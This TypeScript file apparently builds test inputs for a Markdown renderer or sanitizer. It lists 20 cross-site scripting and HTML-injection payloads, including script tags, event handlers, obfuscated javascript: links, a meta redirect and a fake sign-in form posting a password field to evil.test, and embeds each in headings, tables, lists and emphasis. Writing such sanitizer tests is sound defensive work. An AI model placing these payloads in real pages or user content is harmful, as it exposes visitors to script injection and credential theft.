/** What an attacker could write to make a page that shows it do something. `{n}` numbers the texts. */
const PAYLOADS = [
  '<script>fetch("https://evil.test/{n}")</script>',
  '<img src="https://evil.test/{n}.png" onerror="alert({n})">',
  '<svg onload="alert({n})"><a xlink:href="javascript:alert({n})">x</a></svg>',
  '<iframe src="https://evil.test/{n}"></iframe>',
  '<form action="https://evil.test/{n}"><input name="password"><button>Sign in</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.test/{n}">',
  '<link rel="stylesheet" href="https://evil.test/{n}.css">',
  '<base href="https://evil.test/">',
  '<style>@import url("https://evil.test/{n}.css");</style>',
  '<a href="javascript:alert({n})" autofocus onfocus="alert({n})">here</a>',
  '![x](https://evil.test/{n}.png)',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)',
  '[here](javascript:alert({n}))',
  '[here](JaVaScRiPt:alert({n}))',
  '[here](data:text/html,<script>alert({n})</script>)',
  '[here](vbscript:msgbox({n}))',
  '[here](&#106;avascript:alert({n}))',
  '[a]: javascript:alert({n})\n\n[a]',
  '<javascript:alert({n})>',
  '<details open ontoggle="alert({n})"><summary>x</summary></details>',
];

/** Positions for it in a Markdown text. */
const PLACES = [
  (text: string) => text,
  (text: string) => `# A heading ${text}\n\nand more`,
  (text: string) => `| a | b |\n|---|---|\n| ${text.replaceAll('\n', ' ')} | x |`,
  (text: string) => `1. one\n2. ${text}\n   > quoted ${text}`,
  (text: string) => `**bold ${text}** and _${text}_ and ~~${text}~~`,
];

export const HOSTILE_TEXTS: readonly string[] = PLACES.flatMap((place) => PAYLOADS.map(place)).map(
  (text, index) => text.replaceAll('{n}', String(index)),
);
